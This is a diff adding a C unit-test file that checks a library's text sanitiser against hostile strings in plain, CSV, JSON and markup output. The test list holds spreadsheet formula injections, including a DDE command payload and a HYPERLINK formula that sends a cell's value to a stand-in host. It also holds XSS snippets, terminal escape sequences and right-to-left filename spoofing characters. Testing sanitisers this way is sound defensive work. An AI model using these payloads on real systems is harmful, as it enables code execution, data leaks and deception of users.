@@ -1,0 +1,404 @@
+/* Texts that somebody made to do harm, in each place where a text is written. What is asked of the
+ * places stands here by itself, and not by the list that they are written from. */
+#include "json.h"
+#include "support.h"
+
+#include <criterion/criterion.h>
+#include <stdlib.h>
+#include <string.h>
+
+#define COUNT(array) (sizeof(array) / sizeof((array)[0]))
+
+#define RLO "\xE2\x80\xAE"  /* turns the direction */
+#define NBSP "\xC2\xA0"     /* a blank that does not break */
+#define BOM "\xEF\xBB\xBF"  /* the mark of UTF-8 */
+#define ZWSP "\xE2\x80\x8B" /* a blank of no width */
+
+/* So many of them are formulas. */
+enum { FORMULAS = 33 };
+
+static const char *const texts[] = {
+    /* formulas */
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "=cmd|' /C calc'!A0",
+    " =1+1",
+    NBSP "=1+1",
+    BOM "=1+1",
+    ZWSP "=1+1",
+    "\xE3\x80\x80=1+1",
+    "\xEF\xBC\x9D"
+    "1+1",
+    "\xEF\xBC\x8B"
+    "1",
+    "\xEF\xBC\x8D"
+    "1",
+    "\xEF\xBC\xA0SUM(A1)",
+    "\xEF\xB9\xA6"
+    "1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "a,=1+1",
+    "a;=1+1",
+    "a\t=1+1",
+    "a\n=1+1",
+    "a\r\n@SUM(A1)",
+    "a; =1+1",
+    "a," NBSP "=1+1",
+    "a;\"=1+1",
+    "\"=1+1",
+    "\";=1+1;\"",
+    "a\";=1+1",
+    "'=1+1",
+    "a;'=1+1",
+    "a;;+1;;-1",
+    "=HYPERLINK(\"http://x.example/\"&A1)",
+    /* markup */
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)//",
+    "<!--",
+    "]]>",
+    "\" onmouseover=\"alert(1)",
+    "' onfocus='alert(1)' x='",
+    "&lt;b&gt;",
+    "<svg/onload=alert(1)>",
+    "</text></svg><img src=x>",
+    "<?php ?>",
+    /* what speaks to a terminal */
+    "\033[31mred",
+    "\033]0;title\007",
+    "\xC2\x9B"
+    "31mred",
+    "a\bb\x7F",
+    "line\rother",
+    "one\ntwo",
+    /* directions, and what hides */
+    RLO "txt.exe",
+    "a\xE2\x81\xA6"
+    "b\xE2\x81\xA9",
+    "\xE2\x80\x8F\xE2\x80\x8E\xD8\x9C",
+    "a\xE2\x80\xA8"
+    "b\xE2\x80\xA9",
+    "\xF3\xA0\x81\x81\xF3\xA0\x80\xA0tag",
+    "\xEF\xBF\xBE\xEF\xBF\xBF\xEF\xB7\x90",
+    "\xF0\x9F\xBF\xBE\xEF\xBF\xB9",
+    "\"\\\" \\u202e",
+};
+
+/* The number of a character of well-formed UTF-8. */
+static uint32_t take(const char **text)
+{
+    const unsigned char *bytes = (const unsigned char *)*text;
+    const int more = bytes[0] < 0xC0 ? 0 : bytes[0] < 0xE0 ? 1 : bytes[0] < 0xF0 ? 2 : 3;
+    uint32_t character = more == 0 ? bytes[0] : bytes[0] & (0x3Fu >> more);
+
+    for (int i = 1; i <= more; i++) {
+        character = character << 6 | (bytes[i] & 0x3Fu);
+    }
+    *text += more + 1;
+    return character;
+}
+
+static bool is_harmful(uint32_t c)
+{
+    return c < 0x20 || (c >= 0x7F && c < 0xA0) || c == 0x61C || c == 0x200E || c == 0x200F ||
+           c == 0x2028 || c == 0x2029 || (c >= 0x202A && c <= 0x202E) ||
+           (c >= 0x2066 && c <= 0x2069) || (c >= 0xFFF9 && c <= 0xFFFB) ||
+           (c >= 0xFDD0 && c <= 0xFDEF) || (c & 0xFFFE) == 0xFFFE || c >> 7 == 0xE0000 >> 7;
+}
+
+static void expect_harmless(const char *text, const char *but, const char *given)
+{
+    while (*text != '\0') {
+        const char *const at = text;
+
+        if (is_harmful(take(&text))) {
+            cr_expect(strchr(but, *at) != NULL, "|%s| is in |%s|", given, at);
+        }
+    }
+}
+
+static char *safe(const char *text, chiso_medium place)
+{
+    struct buffer buffer = {0};
+    const chiso_sink sink = {chiso_buffer_write, &(chiso_buffer){NULL, 0, 0, NULL}};
+    chiso_buffer *const out = sink.context;
+
+    cr_assert_eq(chiso_text_safe(text, strlen(text), place, &sink, NULL), CHISO_OK);
+    buffer_print(&buffer, "%s", out->bytes == NULL ? "" : out->bytes);
+    chiso_buffer_clear(out);
+    return buffer.bytes;
+}
+
+static bool is_passed(uint32_t c)
+{
+    return c == ' ' || c == 0xA0 || c == 0xFEFF || c == '"' || c == 0x3000 ||
+           (c >= 0x2000 && c <= 0x200D) || c == '\r';
+}
+
+/* Whether a spreadsheet would run a cell. */
+static bool runs(const char *cell)
+{
+    uint32_t c = ' ';
+
+    while (is_passed(c)) {
+        c = take(&cell);
+    }
+    return c != 0 && c < 0x80 ? strchr("=+-@", (int)c) != NULL
+                              : c == 0xFF1D || c == 0xFF0B || c == 0xFF0D || c == 0xFF20 ||
+                                    (c >= 0xFE62 && c <= 0xFE66) || c == 0xFE6B;
+}
+
+/* Splits a row as a spreadsheet does that takes this separator: quotes count at the start of a
+ * cell, and a line end outside of them ends the row. */
+static void expect_no_formula(const char *row, char separator, const char *given)
+{
+    while (*row != '\0') {
+        struct buffer cell = {0};
+        bool quoted = *row == '"';
+
+        row += quoted;
+        while (*row != '\0' && (quoted || (*row != separator && *row != '\n' && *row != '\r'))) {
+            if (quoted && row[0] == '"' && row[1] == '"') {
+                row++;
+            } else if (quoted && row[0] == '"') {
+                quoted = false;
+                row++;
+                continue;
+            }
+            buffer_add(&cell, row++, 1);
+        }
+        cr_expect(cell.size == 0 || !runs(cell.bytes), "|%s| behind '%c': |%s|", given, separator,
+                  cell.bytes);
+        buffer_clear(&cell);
+        row += *row != '\0';
+    }
+}
+
+static void expect_csv(const char *csv, const char *given)
+{
+    static const char separators[] = ",;\t";
+
+    expect_harmless(csv, "\t\r\n", given);
+    for (size_t i = 0; i < 3; i++) {
+        expect_no_formula(csv, separators[i], given);
+    }
+}
+
+Test(safe, there_are_as_many_as_are_said)
+{
+    cr_expect(COUNT(texts) == 57, "%zu", COUNT(texts));
+}
+
+Test(safe, a_line_for_people_shows_and_does_nothing_else)
+{
+    for (size_t i = 0; i < COUNT(texts); i++) {
+        char *text = safe(texts[i], CHISO_MEDIUM_PLAIN);
+
+        expect_harmless(text, "", texts[i]);
+        free(text);
+    }
+}
+
+Test(safe, a_cell_of_csv_is_one_cell_and_no_formula)
+{
+    for (size_t i = 0; i < COUNT(texts); i++) {
+        for (int style = CHISO_MEDIUM_CSV_POINT; style <= CHISO_MEDIUM_CSV_COMMA; style++) {
+            char *text = safe(texts[i], (chiso_medium)style);
+            struct buffer row = {0};
+
+            expect_csv(text, texts[i]);
+            buffer_print(&row, "skhcn%c%s%c5\n", style == CHISO_MEDIUM_CSV_POINT ? ',' : ';', text,
+                         style == CHISO_MEDIUM_CSV_POINT ? ',' : ';');
+            expect_csv(row.bytes, texts[i]);
+            buffer_clear(&row);
+            free(text);
+        }
+    }
+}
+
+Test(safe, a_string_of_json_is_the_text_again)
+{
+    for (size_t i = 0; i < COUNT(texts); i++) {
+        char *text = safe(texts[i], CHISO_MEDIUM_JSON);
+        struct buffer document = {0};
+        struct buffer lines;
+        struct buffer expected = {0};
+
+        expect_harmless(text, "", texts[i]);
+        cr_expect(strstr(text, "</") == NULL && strstr(text, "<!") == NULL &&
+                      strstr(text, "<s") == NULL && strstr(text, "<?") == NULL,
+                  "%s", text);
+        if (strncmp(texts[i], "\xF0\x9F\xBF\xBE", 4) == 0) {
+            cr_expect_str_eq(text, "\"\\ud83f\\udffe\\ufff9\"");
+        } else if (strncmp(texts[i], "\xF3\xA0", 2) == 0) {
+            cr_expect_str_eq(text, "\"\\udb40\\udc41\\udb40\\udc20tag\"");
+        } else {
+            buffer_print(&document, "{\"a\": %s}", text);
+            lines = json_lines(&document);
+            buffer_print(&expected, "a\t\"%s\"\n", texts[i]);
+            cr_expect(strstr(lines.bytes, expected.bytes) != NULL, "%s\n%s", lines.bytes,
+                      expected.bytes);
+            buffer_clear(&lines);
+        }
+        buffer_clear(&document);
+        buffer_clear(&expected);
+        free(text);
+    }
+}
+
+Test(safe, markup_is_text_between_tags_and_in_attributes)
+{
+    for (size_t i = 0; i < COUNT(texts); i++) {
+        char *text = safe(texts[i], CHISO_MEDIUM_MARKUP);
+
+        expect_harmless(text, "", texts[i]);
+        cr_expect(strpbrk(text, "<>\"'") == NULL, "%s", text);
+        for (const char *at = strchr(text, '&'); at != NULL; at = strchr(at + 1, '&')) {
+            cr_expect(strncmp(at, "&lt;", 4) == 0 || strncmp(at, "&gt;", 4) == 0 ||
+                          strncmp(at, "&amp;", 5) == 0 || strncmp(at, "&quot;", 6) == 0 ||
+                          strncmp(at, "&#39;", 5) == 0,
+                      "%s", text);
+        }
+        free(text);
+    }
+}
+
+/* A board whose names are one of the texts. */
+static chiso_board *named(const char *text)
+{
+    chiso_tree *tree = NULL;
+    chiso_board *board = NULL;
+    chiso_unit unit = CHISO_NO_UNIT;
+
+    cr_assert_eq(chiso_tree_new(text, NULL, &tree, NULL), CHISO_OK);
+    cr_assert_eq(chiso_tree_add(tree, CHISO_ROOT, "1", text, "10", NULL, NULL), CHISO_OK);
+    cr_assert_eq(chiso_tree_check(tree, NULL), CHISO_OK);
+    cr_assert_eq(chiso_board_new(tree, NULL, &board, NULL), CHISO_OK);
+    cr_assert_eq(chiso_board_add_unit(board, "u", text, text, &unit, NULL), CHISO_OK);
+    cr_assert_eq(chiso_board_set(board, "u", "1", "5", NULL), CHISO_OK);
+    cr_assert_eq(chiso_board_score(board, NULL), CHISO_OK);
+    chiso_tree_free(tree);
+    return board;
+}
+
+static void expect_written(const chiso_board *board, const char *given)
+{
+    chiso_buffer buffer = CHISO_BUFFER_INIT;
+    const chiso_sink sink = {chiso_buffer_write, &buffer};
+    chiso_report *report = NULL;
+    chiso_explanation *explanation = NULL;
+
+    cr_assert_eq(chiso_report_new(board, NULL, &report, NULL), CHISO_OK);
+    for (int style = CHISO_CSV_POINT; style <= CHISO_CSV_COMMA; style++) {
+        cr_assert_eq(chiso_report_write_csv(report, (chiso_csv_style)style, &sink, NULL), CHISO_OK);
+        expect_csv(buffer.bytes, given);
+        chiso_buffer_clear(&buffer);
+    }
+    cr_assert_eq(chiso_board_write_csv(board, &sink, NULL), CHISO_OK);
+    cr_assert_eq(chiso_tree_write_csv(chiso_board_tree(board), &sink, NULL), CHISO_OK);
+    expect_csv(buffer.bytes, given);
+    chiso_buffer_clear(&buffer);
+    cr_assert_eq(chiso_report_write_json(report, &sink, NULL), CHISO_OK);
+    cr_assert_eq(chiso_explanation_new(board, 0, CHISO_ROOT, 9, &explanation, NULL), CHISO_OK);
+    cr_assert_eq(chiso_explanation_write(explanation, CHISO_LANGUAGE_VIETNAMESE, ',', &sink, NULL),
+                 CHISO_OK);
+    expect_harmless(buffer.bytes, "\n", given);
+    chiso_buffer_clear(&buffer);
+    chiso_explanation_free(explanation);
+    chiso_report_free(report);
+}
+
+Test(safe, all_writers_and_messages_keep_to_it)
+{
+    for (size_t i = 0; i < COUNT(texts); i++) {
+        chiso_board *board = named(texts[i]);
+        chiso_error error = CHISO_ERROR_INIT;
+
+        expect_written(board, texts[i]);
+        cr_expect(chiso_board_set(board, texts[i], "1", "5", &error) != CHISO_OK);
+        expect_harmless(error.message, "", texts[i]);
+        expect_harmless(error.message_vi, "", texts[i]);
+        cr_expect(chiso_board_set(board, "u", "1", texts[i], &error) != CHISO_OK);
+        expect_harmless(error.message, "", texts[i]);
+        chiso_board_free(board);
+    }
+}
+
+Test(safe, what_guards_a_formula_is_taken_off_again)
+{
+    for (size_t i = 0; i < FORMULAS; i++) {
+        chiso_board *board = named(texts[i]);
+        char *csv = support_tree_csv(chiso_board_tree(board));
+        chiso_tree *again = support_tree(csv);
+
+        cr_expect_str_eq(chiso_node_title(again, support_node(again, "1")), texts[i]);
+        free(csv);
+        chiso_tree_free(again);
+        chiso_board_free(board);
+    }
+}
+
+Test(safe, clean_texts_are_written_as_they_are)
+{
+    static const char *const clean[] = {
+        "Sở Kế hoạch và Đầu tư", "R/D 5 m² – 6 ‰",  "a < b", "5-7", "a=b", "(-1)", "1.5",
+        "\xF0\x9F\x98\x80 x",    "x \xE2\x80\x8D y"};
+
+    for (size_t i = 0; i < COUNT(clean); i++) {
+        char *plain = safe(clean[i], CHISO_MEDIUM_PLAIN);
+        char *cell = safe(clean[i], CHISO_MEDIUM_CSV_POINT);
+        char *json = safe(clean[i], CHISO_MEDIUM_JSON);
+
+        cr_expect_str_eq(plain, clean[i]);
+        cr_expect_str_eq(cell, clean[i]);
+        cr_expect(strlen(json) == strlen(clean[i]) + 2 &&
+                  strncmp(json + 1, clean[i], strlen(clean[i])) == 0);
+        free(plain);
+        free(cell);
+        free(json);
+    }
+}
+
+Test(safe, bytes_that_are_no_text_become_question_marks)
+{
+    char *text = safe("a\xFF\xC3", CHISO_MEDIUM_PLAIN);
+    char *cell = safe("a\xFF\xC3", CHISO_MEDIUM_CSV_COMMA);
+    char *json = safe("a\xFF\xC3", CHISO_MEDIUM_JSON);
+    char *markup = safe("a\xFF\xC3", CHISO_MEDIUM_MARKUP);
+
+    cr_expect_str_eq(text, "a??");
+    cr_expect_str_eq(cell, "a??");
+    cr_expect_str_eq(json, "\"a??\"");
+    cr_expect_str_eq(markup, "a??");
+    free(text);
+    free(cell);
+    free(json);
+    free(markup);
+}
+
+static bool refuse(void *context, const char *bytes, size_t size)
+{
+    (void)context;
+    (void)bytes;
+    (void)size;
+    return false;
+}
+
+Test(safe, what_cannot_be_written_is_told)
+{
+    const chiso_sink sink = {refuse, NULL};
+    const chiso_sink none = {NULL, NULL};
+    chiso_error error = CHISO_ERROR_INIT;
+
+    cr_expect_eq(chiso_text_safe("a", 1, CHISO_MEDIUM_PLAIN, &sink, &error), CHISO_E_SINK);
+    cr_expect_eq(chiso_text_safe("a", 1, CHISO_MEDIUM_PLAIN, &none, &error), CHISO_E_NULL);
+    cr_expect_eq(chiso_text_safe("a", 1, CHISO_MEDIUM_PLAIN, NULL, &error), CHISO_E_NULL);
+    cr_expect_eq(chiso_text_safe(NULL, 1, CHISO_MEDIUM_PLAIN, &sink, &error), CHISO_E_NULL);
+    cr_expect_eq(chiso_text_safe(NULL, 0, CHISO_MEDIUM_PLAIN, &sink, &error), CHISO_OK);
+    cr_expect_eq(chiso_text_safe("a", 1, (chiso_medium)5, &sink, &error), CHISO_E_RANGE);
+    cr_expect_eq(chiso_text_safe("a", 1, (chiso_medium)-1, &sink, &error), CHISO_E_RANGE);
+}
